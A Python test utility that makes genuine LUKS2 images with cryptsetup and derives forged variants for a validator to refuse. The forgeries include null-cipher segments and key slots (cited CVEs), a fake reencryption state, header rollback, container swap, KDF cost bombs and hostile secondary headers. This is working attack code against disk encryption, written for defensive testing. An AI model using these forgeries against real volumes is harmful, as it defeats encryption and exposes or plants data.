#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Disks as a host would forge them, made from a genuine LUKS2 image and its key, without device-mapper.

usage: luks_images.py make IMAGE KEY [--size MIB] [--sector-size N] [--small]        a genuine image (cryptsetup luksFormat, as enroll makes the slot); --small: the
                                                                     contents begin at 1 MiB instead of 16, with room for three key slots
       luks_images.py fill IMAGE KEY DIR                             an ext4 file system with what is in DIR, in the segment
       luks_images.py read IMAGE KEY OUT                             the segment, decrypted
       luks_images.py digest IMAGE                                   by which a broker lists the header
       luks_images.py attacks IMAGE KEY OUT_DIR [--old IMAGE] [--only NAME]...
                                                                     OUT_DIR/NAME.img for every attack, and OUT_DIR/attacks.json
       luks_images.py corrupt DEVICE | replace DEVICE IMAGE          damages both headers; puts an image's header area onto a device

attacks.json, for each image: "check", which has to refuse it (null: it opens, with the genuine header), and "without", what plain cryptsetup makes of it: "clear" (the host's
file system in clear, with the genuine key), "any-key" (the host's file system, whatever the key), "own-key" (with the host's passphrase `attacker`), "old-key" (with the revoked
passphrase `revoked`), "genuine", "noise" (it opens, as something that
no file system is on), "fails". KEY is a file; the host's files are ATTACKER and, on genuine disks, whatever `fill` put there.
"""
import argparse
import base64
import json
import os
import subprocess
import sys
import tempfile

import luks2

OLD_PASSPHRASE, OWN_PASSPHRASE = b"revoked", b"attacker"


def run(*command):
    result = subprocess.run(command, capture_output=True, text=True, timeout=120)
    if result.returncode:
        sys.exit(f"{command[0]} failed: {result.stderr.strip() or result.stdout.strip()}")
    return result.stdout


def make(image, key, size=40, sector_size=512, small=False, uuid=None):
    with open(image, "wb") as file:
        file.truncate(size << 20)
    run("cryptsetup", "luksFormat", "-q", "--type", "luks2", "--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000", "--sector-size", str(sector_size),
        *(["--luks2-metadata-size", "16k", "--luks2-keyslots-size", "768k"] if small else []), *(["--uuid", uuid] if uuid else []), image, key)


def file_system(folder, size, to):
    """An ext4 image of `size` bytes with what is in `folder`. Blocks of 4096 bytes: smaller ones do not go with sectors of that size."""
    with open(to, "wb") as file:
        file.truncate(size)
    run("mkfs.ext4", "-q", "-F", "-b", "4096", "-E", "lazy_itable_init=0,lazy_journal_init=0,nodiscard", "-d", folder, to, str(size // 4096))


def fill(image, volume_key, folder):
    with tempfile.NamedTemporaryFile(dir=os.path.dirname(os.path.abspath(image))) as payload:
        file_system(folder, luks2.payload_size(image), payload.name)
        luks2.fill(image, payload.name, volume_key)


def fill_hostile(image, volume_key):
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        with open(os.path.join(folder, "ATTACKER"), "w", encoding="ascii") as file:
            file.write("chosen by the host\n")
        fill(image, volume_key, folder)


def changed(image, change):
    """Both copies, with `change` made to the document of a later header."""
    header = luks2.read(image)
    header.seqid += 1
    change(header)
    luks2.write(image, header)


# Each attack changes the copy `image`; `genuine` holds the volume key and what else it may need.

def clean(image, genuine):
    pass


def null_segment(image, genuine):
    """CVE-2025-58356: key slots and digest are genuine, the contents are not encrypted."""
    changed(image, lambda header: header.segment.update(encryption="cipher_null-ecb"))
    fill_hostile(image, None)


def null_keyslot(image, genuine):
    """CVE-2025-59054: the slot gives the host's volume key to any passphrase; the segment looks as it should."""
    volume_key = os.urandom(luks2.KEY_SIZE)
    header = luks2.read(image)
    header.seqid += 1
    header.document["keyslots"] = {"0": header.document["keyslots"]["0"]}
    header.document["keyslots"]["0"]["area"]["encryption"] = "cipher_null-ecb"
    header.document["tokens"] = {}
    (digest,) = header.document["digests"].values()
    digest.update(keyslots=["0"], digest=luks2.digest_of(digest, volume_key))
    luks2.write(image, header)
    luks2.put(image, int(header.document["keyslots"]["0"]["area"]["offset"]), luks2.af_split(volume_key))
    fill_hostile(image, volume_key)


def linear_segment(image, genuine):
    """No encryption at all, and still the genuine key is what opens it."""
    def change(header):
        header.document["segments"]["0"] = {"type": "linear", "offset": header.segment["offset"], "size": "dynamic"}
    changed(image, change)
    fill_hostile(image, None)


def second_segment(image, genuine):
    """The second half of the disk in clear."""
    def change(header):
        begin, half = int(header.segment["offset"]), luks2.payload_size(image) // 2 // 4096 * 4096
        header.segment["size"] = str(half)
        header.document["segments"]["1"] = {"type": "linear", "offset": str(begin + half), "size": "dynamic"}
    changed(image, change)


def reencryption(image, genuine):
    """CVE-2021-4122: a decryption that never was begun is to be finished: the first 4 MiB are said to be in clear already."""
    def change(header):
        segments, begin, done = header.document["segments"], int(header.segment["offset"]), 4 << 20
        number, offset = luks2.free_place(header)
        final = {"type": "linear", "offset": str(begin), "size": "dynamic", "flags": ["backup-final"]}
        previous = {**segments["0"], "flags": ["backup-previous"]}
        rest = {**segments["0"], "offset": str(begin + done), "iv_tweak": str(done // 512)}
        header.document["segments"] = {"0": {"type": "linear", "offset": str(begin), "size": str(done)}, "1": rest, "2": previous, "3": final}
        header.document["keyslots"][number] = {"type": "reencrypt", "mode": "decrypt", "direction": "forward", "key_size": 1,
                                               "area": {"type": "checksum", "offset": str(offset), "size": "258048", "hash": "sha256", "sector_size": 512}}
        for digest in header.document["digests"].values():
            digest["segments"] = ["1", "2"]
        header.document["config"]["requirements"] = {"mandatory": ["online-reencrypt-v2"]}
    changed(image, change)


def rolled_back(image, genuine):
    """The header from before a key was revoked: a genuine one where there is an old image, else one more slot with the old key."""
    if genuine["old"]:
        with open(genuine["old"], "rb") as file:
            luks2.put(image, 0, file.read(luks2.read(genuine["old"]).area))
        return
    header = luks2.read(image)
    number, offset = luks2.free_place(header)
    material = luks2.new_slot(number, header, offset, OLD_PASSPHRASE, genuine["volume_key"])
    luks2.write(image, header)
    luks2.put(image, offset, material)


def swapped(image, genuine):
    """A container of the host's own, with its passphrase, under the genuine UUID."""
    uuid, size = luks2.read(image).uuid, os.path.getsize(image)
    with tempfile.NamedTemporaryFile() as key:
        key.write(OWN_PASSPHRASE)
        key.flush()
        make(image, key.name, size >> 20, small=int(luks2.read(image).segment["offset"]) < 16 << 20, uuid=uuid)
    fill_hostile(image, luks2.unlock(image, OWN_PASSPHRASE))


def huge_cost(image, genuine):
    changed(image, lambda header: header.document["keyslots"]["0"]["kdf"].update(iterations=0xFFFFFFFF))


def huge_memory(image, genuine):
    kdf = {"type": "argon2id", "time": 4, "memory": 4194304, "cpus": 4, "salt": base64.b64encode(os.urandom(32)).decode()}
    changed(image, lambda header: header.document["keyslots"]["0"].update(kdf=kdf))


def foreign_token(image, genuine):
    """As systemd-cryptenroll writes it for a TPM: a plug-in of cryptsetup reads it before any key is asked for."""
    token = {"type": "systemd-tpm2", "keyslots": ["0"], "tpm2-blob": base64.b64encode(bytes(128)).decode(), "tpm2-pcrs": [], "tpm2-pcr-bank": "sha256",
             "tpm2-primary-alg": "ecc", "tpm2-policy-hash": "00" * 32, "tpm2-pin": False}
    changed(image, lambda header: header.document["tokens"].update({str(len(header.document["tokens"])): token}))


def sector_size(image, genuine):
    changed(image, lambda header: header.segment.update(sector_size=4096 if header.segment["sector_size"] == 512 else 512))


def hostile_secondary(image, genuine):
    """cryptsetup takes the copy with the higher sequence number."""
    primary, secondary = luks2.read(image), luks2.read(image)
    secondary.seqid += 1
    secondary.segment["encryption"] = "cipher_null-ecb"
    luks2.write(image, primary, secondary)


def hostile_primary(image, genuine):
    primary, secondary = luks2.read(image), luks2.read(image)
    primary.seqid += 1
    primary.segment["encryption"] = "cipher_null-ecb"
    luks2.write(image, primary, secondary)


def primary_broken(image, genuine):
    luks2.put(image, 0x1000, b"[")


def corrupt(image, genuine=None):
    """Nothing of either header is left."""
    with open(image, "rb") as file:
        data = file.read(luks2.BINARY)
    size = int.from_bytes(data[8:16], "big") if data[:6] == luks2.MAGICS[0] else 16384
    luks2.put(image, 0, os.urandom(2 * size))


def overlapping(image, genuine):
    """The contents lie over the key slots: who writes to the disk writes a slot."""
    changed(image, lambda header: header.segment.update(offset=str(2 * header.size)))


def discards(image, genuine):
    changed(image, lambda header: header.document["config"].update(flags=["allow-discards"]))


def relabelled(image, genuine):
    header = luks2.read(image)
    header.label = "root"
    luks2.write(image, header)


ATTACKS = {
    "clean": (clean, None, "genuine"),  # not "control": device-mapper has no mapping of that name
    "null-keyslot": (null_keyslot, "luks.keyslot_cipher", "any-key"),
    "null-keyslot-empty-key": (null_keyslot, "luks.keyslot_cipher", "any-key"),
    "null-segment": (null_segment, "luks.segment_cipher", "clear"),
    "linear-segment": (linear_segment, "luks.segment_type", "clear"),
    "second-segment": (second_segment, "luks.segments", "genuine"),
    "forged-reencryption": (reencryption, "luks.reencryption", "fails"),
    "rolled-back": (rolled_back, "luks.listed", "old-key"),
    "swapped-container": (swapped, "luks.listed", "own-key"),
    "huge-pbkdf": (huge_cost, "luks.keyslot_cost", "fails"),
    "huge-memory": (huge_memory, "luks.keyslot_cost", "fails"),
    "foreign-token": (foreign_token, "luks.tokens", "genuine"),
    "sector-size": (sector_size, "luks.listed", "noise"),
    "overlapping": (overlapping, "luks.segment_offset", "fails"),
    "discards": (discards, "luks.flags", "genuine"),
    "label": (relabelled, "luks.listed", "genuine"),
    "hostile-secondary": (hostile_secondary, None, "noise"),
    "hostile-primary": (hostile_primary, None, "noise"),
    "primary-broken": (primary_broken, None, "genuine"),
    "corrupt": (corrupt, "luks.header", "fails"),
}


def attacks(image, key, out, old=None, only=None):
    os.makedirs(out, exist_ok=True)
    with open(key, "rb") as file:
        genuine = {"volume_key": luks2.unlock(image, file.read()), "old": old}
    listed = luks2.read(image).digest()
    made = {}
    for name, (attack, check, without) in ATTACKS.items():
        if only and name not in only:
            continue
        target = os.path.join(out, name + ".img")
        run("cp", "--sparse=always", image, target)
        attack(target, genuine)
        made[name] = {"image": target, "check": check, "without": without, "what": (attack.__doc__ or "").strip()}
    with open(os.path.join(out, "attacks.json"), "w", encoding="ascii") as file:
        json.dump({"listed": listed, "images": made}, file, indent=1)


def main():
    parser = argparse.ArgumentParser(usage=__doc__.split("usage: ", 1)[1].split("\n\n", 1)[0])
    parser.add_argument("verb", choices=["make", "fill", "read", "digest", "attacks", "corrupt", "replace"])
    parser.add_argument("image")
    parser.add_argument("rest", nargs="*")
    parser.add_argument("--size", type=int, default=40)
    parser.add_argument("--sector-size", type=int, default=512)
    parser.add_argument("--small", action="store_true")
    parser.add_argument("--old")
    parser.add_argument("--only", action="append")
    options = parser.parse_args()
    image, rest = options.image, options.rest
    if len(rest) != {"make": 1, "fill": 2, "read": 2, "digest": 0, "attacks": 2, "corrupt": 0, "replace": 1}[options.verb]:
        parser.error("wrong number of arguments")
    if options.verb == "make":
        make(image, rest[0], options.size, options.sector_size, options.small)
    elif options.verb == "digest":
        print(luks2.read(image).digest())
    elif options.verb == "attacks":
        attacks(image, *rest, options.old, options.only)
    elif options.verb == "corrupt":
        corrupt(image)
    elif options.verb == "replace":
        with open(rest[0], "rb") as file:
            luks2.put(image, 0, file.read(luks2.read(rest[0]).area))
    else:
        with open(rest[0], "rb") as file:
            volume_key = luks2.unlock(image, file.read())
        if options.verb == "fill":
            fill(image, volume_key, rest[1])
        else:
            with open(rest[1], "wb") as file:
                file.write(luks2.payload(image, volume_key, luks2.payload_size(image)))


if __name__ == "__main__":
    main()
